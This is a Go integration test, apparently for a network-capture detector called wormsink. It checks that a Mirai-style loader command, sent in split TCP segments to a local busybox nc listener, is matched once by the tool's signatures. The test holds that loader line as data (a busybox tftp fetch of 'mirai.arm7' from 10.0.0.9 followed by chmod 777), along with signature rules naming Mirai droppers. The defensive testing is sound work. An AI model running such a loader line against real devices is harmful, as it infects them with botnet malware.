package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"wormsink/internal/testutil"
)

// TestServeCaptureLoaderSplitAcrossSegments: a loader's command line typed
// into a real shell-like service in pieces, each its own TCP segment (the
// client writes the next piece only once busybox nc, the listener, has
// printed the last), is found once, strong, by serve's live capture on
// lo, as the whole line in one segment is. lo shows every segment twice
// (out and in): the second copy is a retransmission to the stream table
// and adds nothing.
func TestServeCaptureLoaderSplitAcrossSegments(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Fatal("this test needs root: a capture socket (make test runs as root in CI)")
	}
	bin := wormsinkBinary(t)
	nc := testutil.Need(t, "busybox")
	port := freePort(t)
	sigs := filepath.Join(t.TempDir(), "sigs.yaml")
	// A command rule on a free port, so the test's listener need not take
	// telnet's.
	if err := os.WriteFile(sigs, fmt.Appendf(nil, `serial: 1
signatures:
  - id: split.mirai-loader
    family: Mirai
    tftp_files: ["mirai.*"]
    payloads:
      - {proto: tcp, port: %d, command: tftp}
  - id: split.generic
    family: IoT dropper
    payloads:
      - {proto: tcp, port: %d, command: tftp, evidence: weak}
`, port, port), 0o644); err != nil {
		t.Fatal(err)
	}
	p := startServe(t, bin, "--signatures", sigs, "--capture", "lo", "--capture-workers", "2")

	listener := exec.Command(nc, "nc", "-l", "-p", fmt.Sprint(port))
	out, err := listener.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := listener.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Process.Kill(); listener.Wait() })
	var mu sync.Mutex
	var got strings.Builder
	go func() {
		buf := make([]byte, 512)
		for {
			n, err := out.Read(buf)
			mu.Lock()
			got.Write(buf[:n])
			mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	received := func() string { mu.Lock(); defer mu.Unlock(); return got.String() }

	// From 127.0.0.66, not 127.0.0.1 (the machine's own address is never
	// a host).
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 66)}}
	var c net.Conn
	waitFor(t, "busybox nc listening", 10*time.Second, func() bool {
		c, err = d.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		return err == nil
	})
	defer c.Close()
	line := "/bin/busybox tftp -g -l dvrHelper -r mi|rai.ar|m7 10.0.0|.9; /bin/busybox chmod 777 dvrHelper\r\n"
	sent := ""
	for _, piece := range strings.Split(line, "|") {
		if _, err := io.WriteString(c, piece); err != nil { // TCP_NODELAY: one segment
			t.Fatal(err)
		}
		sent += piece
		waitFor(t, fmt.Sprintf("nc received %q", sent), 10*time.Second, func() bool { return received() == sent })
	}
	waitFor(t, "the loader line's evidence", 20*time.Second, func() bool {
		return p.metric(t, "wormsink_wire_matches_total") >= 1 && p.metric(t, "wormsink_capture_stream_joined_total") >= 3
	})
	joined := p.metric(t, "wormsink_capture_stream_joined_total")
	c.Close()
	p.stop(t)
	var lines []string
	for _, l := range logLines(t, p.log) {
		if l["event"] == "wire_match" {
			lines = append(lines, fmt.Sprintf("%v %v %v %v", l["host"], l["signature"], l["evidence"], l["role"]))
		}
	}
	if want := "127.0.0.66 split.mirai-loader strong source"; len(lines) != 1 || lines[0] != want {
		t.Errorf("wire lines %q, want one %q (segments joined: %v)", lines, want, joined)
	}
}
